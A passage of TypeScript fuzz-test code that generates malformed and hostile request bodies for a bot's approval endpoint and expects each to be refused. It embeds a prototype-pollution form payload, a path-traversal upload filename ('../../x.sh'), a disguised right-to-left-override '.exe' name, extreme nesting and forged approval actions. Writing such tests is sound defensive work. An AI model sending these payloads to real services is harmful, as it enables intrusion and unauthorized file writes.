      const x = rng.pick<unknown>([[a], 'message', 42, null, true, [], JSON.stringify(a)]);
      what.push('the body is not a JSON object');
      return x;
    }
    default:
      what.push('an empty object');
      return {};
  }
}

function messagesCase(rng: Rng, world: FuzzWorld, what: string[]): Omit<FuzzCase, 'seed' | 'index' | 'endpoint' | 'what'> {
  const family = rng.weighted<string>([
    [55, 'forged-action'],
    [20, 'envelope'],
    [7, 'invalid-json'],
    [5, 'content-type'],
    [5, 'deep-nesting'],
    [3, 'oversize'],
    [5, 'upload'],
  ]);
  const contentType = rng.pick(GOOD_CONTENT_TYPES);
  const none: Auth = { kind: 'none' };
  const http4xx: Expect = { kind: 'http4xx' };
  switch (family) {
    case 'forged-action': {
      const f = forgedAction(rng, world, what);
      return { family: `action-${f.family}`, body: serialise(f.activity), contentType, auth: none, expect: f.expect };
    }
    case 'envelope':
      return { family, body: serialise(brokenEnvelope(rng, world, what)), contentType, auth: none, expect: http4xx };
    case 'invalid-json': {
      const a = invoke(world, rng, rng.pick(world.pending.outsiders), 'pim.approve', { requestId: world.pending.id, decisionJustification: approverText(rng) });
      return { family, body: invalidJson(rng, serialise(a).toString('utf8'), what), contentType, auth: none, expect: http4xx };
    }
    case 'content-type': {
      const a = invoke(world, rng, rng.pick(world.pending.outsiders), 'pim.approve', { requestId: world.pending.id, decisionJustification: approverText(rng) });
      const ct = rng.pick(BAD_CONTENT_TYPES.filter((c) => c !== 'multipart/form-data; boundary=fuzz'));
      what.push(`a card action sent as ${ct === null ? 'no Content-Type' : JSON.stringify(ct)}`);
      const form = ct === 'application/x-www-form-urlencoded' && rng.chance(0.5);
      if (form) what.push('(form-encoded)');
      return {
        family,
        body: form ? Buffer.from(`type=invoke&name=adaptiveCard%2Faction&value=${encodeURIComponent(JSON.stringify(a.value))}`, 'utf8') : serialise(a),
        contentType: ct,
        auth: none,
        expect: http4xx,
      };
    }
    case 'deep-nesting': {
      const depth = rng.range(1000, 100_000);
      const where = rng.pick(['whole', 'value', 'data', 'channelData', 'entities', 'from']);
      what.push(`nesting ${depth} levels deep in ${where}`);
      if (where === 'whole') return { family, body: Buffer.from(nestedText(rng, depth), 'utf8'), contentType, auth: none, expect: http4xx };
      const a = invoke(world, rng, rng.pick(world.pending.outsiders), 'pim.approve', { requestId: world.pending.id, decisionJustification: approverText(rng) });
      // Deep nesting where the bot reads typed fields breaks the action; where it does not, a valid action would remain, so the action is also forged.
      const action = (a.value as Json).action as Json;
      if (where === 'value') a.value = rawSplice(nestedText(rng, depth));
      else if (where === 'data') action.data = rawSplice(nestedText(rng, depth));
      else if (where === 'from') a.from = rawSplice(nestedText(rng, depth));
      else {
        // channelData is an object and entities an array in every activity: deep inside them, not instead of them.
        a[where] = rawSplice(where === 'entities' ? nestedText(rng, depth, true) : `{"padding":${nestedText(rng, depth)}}`);
        action.verb = 'pim.bogus';
        what.push('and an unknown verb');
        return { family, body: serialise(a), contentType, auth: none, expect: { kind: 'invoke4xx' } };
      }
      return { family, body: serialise(a), contentType, auth: none, expect: where === 'from' ? http4xx : { kind: 'invoke4xx' } };
    }
    case 'oversize': {
      const a = invoke(world, rng, rng.pick(world.pending.approvers), 'pim.approve', { requestId: world.pending.id });
      return {
        family,
        body: oversized(
          rng,
          a,
          rng.pick([['value', 'action', 'data', 'decisionJustification'], ['text'], ['channelData', 'padding']]),
          MESSAGES_BODY_LIMIT,
          what,
        ),
        contentType,
        auth: none,
        expect: http4xx,
      };
    }
    default: {
      // Bot Framework posts JSON only. A general body parser would read a form, or write a multipart
      // upload to disk, before channel authentication (which runs after parsing) could refuse the caller.
      // (There is no broken-auth share here: demo mode runs without Bot Framework auth.)
      const a = invoke(world, rng, rng.pick(world.pending.approvers), 'pim.approve', { requestId: world.pending.id, decisionJustification: approverText(rng) });
      if (rng.chance(0.4)) {
        what.push('the activity as a form');
        const form = Object.entries(a)
          .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(typeof v === 'string' ? v : JSON.stringify(v))}`)
          .join('&');
        return {
          family,
          body: Buffer.from(`${form}&__proto__[polluted]=yes&constructor[prototype][polluted]=yes`, 'utf8'),
          contentType: 'application/x-www-form-urlencoded',
          auth: none,
          expect: http4xx,
        };
      }
      const boundary = `fuzz${rng.hex(12)}`;
      const size = rng.range(1, 300_000);
      what.push(`a multipart upload with a ${size}-byte file and the activity's fields`);
      const part = (name: string, value: string, file?: string) =>
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"${file ? `; filename="${file}"` : ''}\r\n${file ? 'Content-Type: application/octet-stream\r\n' : ''}\r\n${value}\r\n`;
      const text =
        part('type', 'message') +
        part('text', hostileText(rng)) +
        part('upload', 'A'.repeat(size), rng.pick(['x.bin', '../../x.sh', 'a\u202egnp.exe'])) +
        `--${boundary}--\r\n`;
      return { family, body: Buffer.from(text, 'utf8'), contentType: `multipart/form-data; boundary=${boundary}`, auth: none, expect: http4xx };
    }
  }
}

// --- the cases -------------------------------------------------------------------------------------

const ENDPOINTS: readonly Endpoint[] = ['evaluate', 'events', 'messages'];

/** Case `index` of the run with `seed`: the endpoints take turns, everything else is drawn from the case's own PRNG. */
export function caseAt(world: FuzzWorld, seed: number, index: number): FuzzCase {
  const rng = new Rng(caseSeed(seed, index));
  const endpoint = ENDPOINTS[index % ENDPOINTS.length]!;
  const what: string[] = [];
  rawStore = [];
  const c = endpoint === 'evaluate' ? evaluateCase(rng, world, what) : endpoint === 'events' ? eventsCase(rng, world, what) : messagesCase(rng, world, what);
  // Whatever else is wrong with it, a body over the limit is refused for its size before anyone reads it.
  const limit = endpoint === 'messages' ? MESSAGES_BODY_LIMIT : PIM_BODY_LIMIT;
  if (c.body.length > limit && c.expect.kind !== 'http4xx') {
    what.push(`(${c.body.length} bytes: over the ${limit / 1024} KiB limit)`);
    c.expect = { kind: 'http4xx' };
  }
  return { seed, index, endpoint, what, ...c };
}

/** Generates cases lazily: a run of 10,000 bodies (some of hundreds of KB) is never held in memory at once. */
export function* cases(world: FuzzWorld, seed: number, count: number): Generator<FuzzCase> {
  for (let i = 0; i < count; i++) yield caseAt(world, seed, i);
}
